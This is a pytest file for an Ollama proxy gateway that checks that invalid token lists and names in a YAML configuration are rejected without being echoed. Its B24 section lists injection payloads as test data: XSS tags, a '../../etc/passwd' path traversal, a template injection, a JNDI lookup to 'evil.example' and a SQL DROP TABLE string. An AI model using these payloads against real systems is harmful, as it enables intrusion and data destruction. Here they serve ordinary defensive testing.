"""Rows B22, B24: what an operator may write by mistake where tokens and their names belong."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml

from ollama_proxy.errors import ConfigError
from ollama_proxy.settings.schema import load_settings
from tests.reliability.rig import PROBE_TOKEN, TOKEN, Rig, Row
from tests.rig.deadline import wait_until
from tests.rig.fixtures import module_fixture
from tests.rig.gateway import FailedStart, Gateway
from tests.rig.leaks import worker_details

#: Seconds in which every worker has looked at an edited file; P4 has the promise.
FOLLOWED_S = 30.0

#: Written where a token should be, and what is said of it.
NO_TOKENS = {
    "1234567": "must be text: put quotes around it",
    "0123": "must be text: put quotes around it",
    "12:30:45": "must be text: put quotes around it",
    "yes": "must be text: put quotes around it",
    "2027-01-31": "must be text: put quotes around it",
    "null": "is empty",
    "~": "is empty",
    "": "is empty",
    '""': "is empty",
    "[CANARY]": "must be text",
    '"CANARY A"': "must be a token",
    '" CANARY"': "must be a token",
    r'"CANARY\t"': "must be a token",
    r'"CANARY\n"': "must be a token",
    '"CANARYé"': "must be a token",
    "{name: a}": "needs either token or sha256",
    "{name: b, token: 5}": "must be text: put quotes around it",
    "{name: e, token: CANARY3, scopes: []}": "is an empty list",
    "{name: f, token: CANARY4, expires: soon}": "must be a date",
    "{name: g, sha256: 'abcd'}": "must be 64 hexadecimal digits",
}
LISTED = "".join(f"\n  - {item}" for item in NO_TOKENS)

#: What is written for the list of tokens, and what is said of it, on its second line.
LISTS = {
    "items that are none": (LISTED, "put quotes around it"),
    "a text": ("CANARY", "must be a list"),
    "a mapping": ("{CANARY: 1}", "must be a list"),
    "one name twice": (
        "[{name: c, token: CANARY1}, {name: c, token: CANARY2}]",
        "has the same name as",
    ),
    "one token twice": (
        "[{name: c, token: CANARY1}, {name: d, token: CANARY1}]",
        "is the same token as",
    ),
    "a tag": ("[!x CANARY]", "tags (!) are not supported"),
    "an alias": ("[&x CANARY, *x]", "anchors and aliases"),
    "a tab": ("\n\t- CANARY", "is not valid YAML"),
    "deeper than deep": ("[" * 3000, "nested too deeply"),
    "twice": ("[CANARY]\n  generate_tokens: [CANARY2]", "the same name is already on line"),
}
#: Files that could be read as something else as a whole.
FILES = {
    "byte order mark": ("\ufeffauth: {generate_tokens: [CANARY]}\n".encode(), "byte order mark"),
    "UTF-16": ("auth: {generate_tokens: [CANARY]}\n".encode("utf-16"), "UTF-8"),
    "5 MiB": (b"auth: {generate_tokens: [CANARY]}\n" + b"#" * (5 << 20), "larger"),
    "nothing": (b"", "empty"),
}
#: What the texts above would be if somebody made texts of them.
NEVER: tuple[str, ...] = (
    "1234567",
    "0123",
    "83",
    "12:30:45",
    "45045",
    "yes",
    "True",
    "true",
    "1e3",
    "1000.0",
    "null",
    "None",
    "~",
    '""',
)
NEVER += ("CANARY", "CANARY1", "CANARY2", "CANARY3", "CANARY4", "{}", "[]", "c")


def with_list(written: str, lines: int = 0) -> bytes:
    """A file with this for its list of tokens, behind so many lines of comments."""
    return ("#\n" * lines + f"auth:\n  generate_tokens: {written}\n").encode()


BROKEN = {name: (with_list(written), words) for name, (written, words) in LISTS.items()} | FILES

#: Those that a gateway that runs gets one after the other: it looks every two seconds.
EDITS = (
    ("items that are none", "a tag", "one token twice"),
    ("deeper than deep", "UTF-16", "nothing"),
)


#: Without a limit of wrong tokens: there are more of them here than it allows in a minute.
rig = module_fixture(lambda: Rig(config={"auth": {"max_failed_logins": 0}}))


def started(content: bytes, directory: Path) -> FailedStart:
    """A start with a file of these bytes, which has to fail."""
    path = directory / "config.yaml"
    path.write_bytes(content)
    return Gateway.start_expecting_failure("", env={"OLLAMA_PROXY_CONFIG": str(path)})


def problems(row: Row) -> set[str]:
    """What the workers say is wrong with the file."""
    return {
        str(each["configuration_problem"])
        for each in worker_details(row.gateway, PROBE_TOKEN).values()
    }


def edit(row: Row, content: bytes) -> None:
    """A new file in place of the old one."""
    fresh = row.gateway.config_path.with_suffix(".edited")
    fresh.write_bytes(content)
    fresh.rename(row.gateway.config_path)


def ask(row: Row, token: str) -> int:
    return row.ask("GET", "/api/tags", token=token).status


@pytest.mark.door("gateway")
@pytest.mark.parametrize(
    "edits", [(), *EDITS], ids=["at the start", *(", ".join(names) for names in EDITS)]
)
def test_b22_token_lists(row: Row, tmp_path: Path, edits: tuple[str, ...]) -> None:
    """One door: what the other shows is the same file."""
    if not edits:
        check_starts(tmp_path)
        return
    for name in edits:
        check_edit(row, name)
    good = yaml.safe_dump(row.rig.configured()).replace("\n", "\r\n")
    edit(row, good.encode())
    wait_until(lambda: problems(row) == {"None"}, FOLLOWED_S, lambda: f"told: {problems(row)}")
    assert {ask(row, TOKEN) for _ in range(4)} == {200}


def check_starts(directory: Path) -> None:
    """No broken file can be used, and each is told with its line where it has one; a start with one
    ends, and tells every item of a list with its line."""
    for name, (content, words) in BROKEN.items():
        path = directory / "read.yaml"
        path.write_bytes(content)
        with pytest.raises(ConfigError, match=re.escape(words)) as caught:
            load_settings(path, {})
        assert re.search(r"read\.yaml:\d+: |read\.yaml: is", str(caught.value)), name
        assert "CANARY" not in str(caught.value), name
    failed = started(BROKEN["items that are none"][0], directory)
    output = failed.output
    assert failed.exit_code == os.EX_CONFIG
    assert "CANARY" not in output and "Traceback" not in output
    for line, (item, words) in enumerate(NO_TOKENS.items(), 3):
        said = [each for each in output.splitlines() if f"config.yaml:{line}:" in each]
        assert said and all(words in each for each in said), item


def check_edit(row: Row, name: str) -> None:
    """A broken edit is told with its line, and adds and takes away no token."""
    content, words = BROKEN[name]
    edit(row, content)
    wait_until(
        lambda: all(words in problem for problem in problems(row)),
        FOLLOWED_S,
        lambda: f"told: {problems(row)}",
    )
    assert not [problem for problem in problems(row) if "CANARY" in problem]
    assert {ask(row, TOKEN) for _ in range(4)} == {200}
    assert {ask(row, token) for token in NEVER} == {401}


# B24

#: Names that are no names, and what must not be repeated of them.
NO_NAMES = (
    '"<script>alert(1)</script>"',
    '"<img src=x onerror=alert(1)>"',
    r'"a\e[2J"',
    r'"a\nb"',
    r'"a\0b"',
    r'"\u202eb"',
    r'"\u2028"',
    f'"{"x" * 10_240}"',
    '"../../etc/passwd"',
    '"{{7*7}}"',
    '"${jndi:ldap://evil.example}"',
    '"\'; DROP TABLE tokens; --"',
    '"=1+1"',
    '"名"',
    '"a b"',
    '""',
    "5",
)


@pytest.mark.door("gateway")
def test_b24_names_with_markup(row: Row, tmp_path: Path) -> None:
    """One door: names come by the file."""
    written = "".join(
        f"\n  - {{name: {name}, token: CANARY{number}}}" for number, name in enumerate(NO_NAMES)
    )
    output = started(with_list(written), tmp_path).output
    for line, name in enumerate(NO_NAMES, 3):
        assert re.search(
            rf"config\.yaml:{line}: auth\.generate_tokens\[{line - 2}\]\.name must be ", output
        ), name
    shown = output.replace("\n", "")
    assert shown.isprintable()
    assert not [word for word in ("<", "evil", "DROP", "xxx", "CANARY", "passwd") if word in shown]
    edit(row, with_list(written))
    wait_until(
        lambda: all(".name must be" in problem for problem in problems(row)),
        FOLLOWED_S,
        "nobody complains",
    )
    assert all(problem.replace("\n", "").isprintable() for problem in problems(row))
    assert {ask(row, f"CANARY{number}") for number in range(len(NO_NAMES))} == {401}
    assert ask(row, TOKEN) == 200
    row.gateway.write_config(row.rig.configured())
    wait_until(lambda: problems(row) == {"None"}, FOLLOWED_S)
